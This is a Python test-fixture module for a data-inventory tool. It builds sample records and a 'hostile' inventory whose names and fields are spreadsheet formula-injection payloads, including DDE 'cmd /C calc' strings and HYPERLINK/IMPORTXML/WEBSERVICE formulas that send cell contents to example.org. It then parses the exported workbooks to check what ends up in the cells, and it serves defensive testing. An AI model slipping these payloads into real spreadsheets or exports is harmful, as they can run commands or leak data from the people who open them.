"""Small inventories for tests of workbooks, and what stands in the files made of them."""

import io
import zipfile
from collections.abc import Iterator
from xml.etree import ElementTree

from datamap.model import (
    NONE,
    Activity,
    Category,
    DataUse,
    Evidence,
    Inventory,
    Organisation,
    Party,
    PurposeLine,
    Record,
    Status,
    YesNo,
    inventory_of,
)
from datamap.model.sources import Document
from datamap.workbook.book import Book, Origin
from datamap.workbook.guide import guide_of

ORIGIN = Origin("0123456789abcdef", 7, "c0ffee" * 10)

# Signs that a spreadsheet might take for a formula, before what a formula could do.
SIGNS = ("=", "+", "-", "@", "\t=", "\n=", " =", "  +", "\uff1d", "\uff0b", "\uff0d", "\uff20", "'=", "''=", "%0A=")
HARM = (
    *("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.org?x="&A1,"click")', "SUM(1+1)*cmd|' /C calc'!A0"),
    *('IMPORTXML(CONCAT("http://example.org?v=",A1),"//a")', 'DDE("cmd";"/C calc";"!A0")', "A1", "1", "x", "-1"),
    *("@SUM(1,1)", '"="&"1+1"', "MSEXCEL|'..\\..\\calc.exe'!''", 'WEBSERVICE("http://example.org")', "1;2", "1\n=2"),
    *("{=1+1}", "RAND()", "NOW()", "TRUE()", "1e5", "00012", 'INDIRECT("A1")', "#REF!", "_x0041_", "=1", "<b>&amp;"),
    *("'quoted'", '"quoted"', "file:///etc/hosts#$A.A1", "\\\\server\\share", "+49 30 123", "é", "\u202e=1"),
)
PAYLOADS = tuple(f"{sign}{harm}" for sign in SIGNS for harm in HARM)


def small() -> Inventory:
    """One organisation with a record of most kinds, all three states, and texts that are hard to keep."""
    org = "org-acme"
    records: list[Record] = [
        Organisation(id=org, name="Acme, Ltd.", country="LU", email="dpo@example.org", dpo_name=NONE),
        Activity(
            id="act-acme-news",
            organisation=org,
            name="Newsletter",
            role="role-controller",
            joint_controllers=NONE,
            department="Marketing",
            status=Status.ACTIVE,
            automated_decisions=YesNo.NO,
            description="=1+1 is text\nand so is none",
        ),
        Activity(id="act-acme-pay", organisation=org, name="Payroll", department="HR"),
        PurposeLine(id="line-acme-a", organisation=org, activity="act-acme-news", purpose="purpose-marketing"),
        DataUse(
            id="use-acme-a",
            organisation=org,
            activity="act-acme-news",
            category="cat-acme-club",
            elements=("name", "e-mail\naddress", "none"),
            people=("people-customer", "people-visitor"),
            recipients=("party-acme-bolt", "party-acme-nut"),
            transfers=NONE,
        ),
        DataUse(id="use-acme-b", organisation=org, activity="act-acme-pay", category="cat-payment"),
        Category(id="cat-acme-club", organisation=org, label="Club data", parent="cat-contact"),
        Party(id="party-acme-bolt", organisation=org, name="Bolt & Nut; <Hosting>", sub_processors=NONE),
        Party(id="party-acme-nut", organisation=org, name="bolt & nut hosting", acts_for=(org,)),
        Party(id="party-acme-far", organisation=org, name="None"),
        Document(id="doc-acme", organisation=org, title="Privacy policy", file="policy.txt"),
        Evidence(
            id="evidence-acme-a",
            organisation=org,
            record="use-acme-a",
            field="recipients",
            document="doc-acme",
            line=12,
            phrase="we share it with _x0041_ carriers",
        ),
    ]
    return inventory_of(records)


def hostile(payloads: tuple[str, ...] = PAYLOADS) -> Inventory:
    """An organisation whose parties are called like formulas, in names, in lists and in texts."""
    parties = [
        Party(
            id=f"party-a-{number}",
            organisation="org-a",
            name=payload,
            contact=payload,
            sub_processors=(f"party-a-{number + 1}",) if number + 1 < len(payloads) else NONE,
        )
        for number, payload in enumerate(payloads)
    ]
    use = DataUse(id="use-a", organisation="org-a", activity="act-a", category="cat-email", elements=payloads)
    activity = Activity(id="act-a", organisation="org-a", name="A")
    return inventory_of([Organisation(id="org-a", name="=1+1"), activity, use, *parties])


def tables(book: Book) -> dict[str, list[list[str]]]:
    """The texts of each sheet with records, and of the guide, row by row, as they should stand in any file."""
    found = {book.labels["sheet.guide"]: [list(line.cells) for line in guide_of(book)]}
    for sheet in book.sheets:
        keys = [column.key for column in sheet.layout.columns]
        found[sheet.title] = [keys, list(sheet.headers), *map(list, sheet.rows)]
    return found


def trimmed(rows: list[list[str]]) -> list[list[str]]:
    """Rows without the empty cells at their ends and the empty rows below."""
    rows = [row[: max((n for n, text in enumerate(row, 1) if text), default=0)] for row in rows]
    while rows and not rows[-1]:
        rows.pop()
    return rows


def parts(content: bytes) -> dict[str, str]:
    """The XML parts of a file that is a zip."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name).decode("utf-8-sig") for name in archive.namelist()}


TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"


def flat_tables(document: str) -> dict[str, list[list[str]]]:
    """The texts of each sheet of a document of LibreOffice (flat or content.xml), without empty ends."""
    found = {}
    for table in ElementTree.fromstring(document).iter(f"{TABLE}table"):
        rows: list[list[str]] = []
        for row in table.iter(f"{TABLE}table-row"):
            texts: list[str] = []
            for cell in row:
                if cell.tag in (f"{TABLE}table-cell", f"{TABLE}covered-table-cell"):
                    times = int(cell.get(f"{TABLE}number-columns-repeated", "1"))
                    text = "\n".join("".join(_letters(line)) for line in cell.findall(f"{TEXT}p"))
                    texts += [text] * (times if text else min(times, 60))
            times = int(row.get(f"{TABLE}number-rows-repeated", "1"))
            rows += [texts] * (times if any(texts) else min(times, 300))
        found[table.get(f"{TABLE}name", "")] = trimmed(rows)
    return found


def _letters(element: ElementTree.Element) -> Iterator[str]:
    yield element.text or ""
    for child in element:
        if child.tag == f"{TEXT}s":
            yield " " * int(child.get(f"{TEXT}c", "1"))
        elif child.tag == f"{TEXT}tab":
            yield "\t"
        elif child.tag == f"{TEXT}line-break":
            yield "\n"
        else:
            yield from _letters(child)
        yield child.tail or ""
